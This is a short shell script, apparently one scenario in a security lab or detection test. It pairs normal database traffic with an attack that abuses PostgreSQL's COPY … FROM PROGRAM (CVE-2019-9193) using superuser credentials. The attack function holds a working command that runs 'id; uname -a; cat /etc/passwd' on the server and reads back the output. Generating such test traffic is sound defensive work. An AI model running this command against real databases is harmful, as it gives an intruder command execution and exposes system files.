# A database's superuser runs a shell command: PostgreSQL's `COPY … FROM PROGRAM` (superusers and members of
# pg_execute_server_program may; CVE-2019-9193 is this "feature") runs `sh -c` inside the server process that serves
# the client, and the command's output comes back as rows of a table the attacker then selects — `id`, `uname -a`
# and /etc/passwd, in band, through the database's own connection. The client holds the superuser's credentials
# (leaked, or a database left open); nothing goes through the runtime (T1078, T1059.004).
IMAGE=db
normal() { db_traffic "$WEB_PORT" 200; }
attack() {
  db_sql "$WEB_PORT" "CREATE TEMP TABLE o (line text)" "COPY o FROM PROGRAM 'id; uname -a; cat /etc/passwd'" \
    "SELECT line FROM o" > "$LAB_DIR/copy-program.$$.out"
}
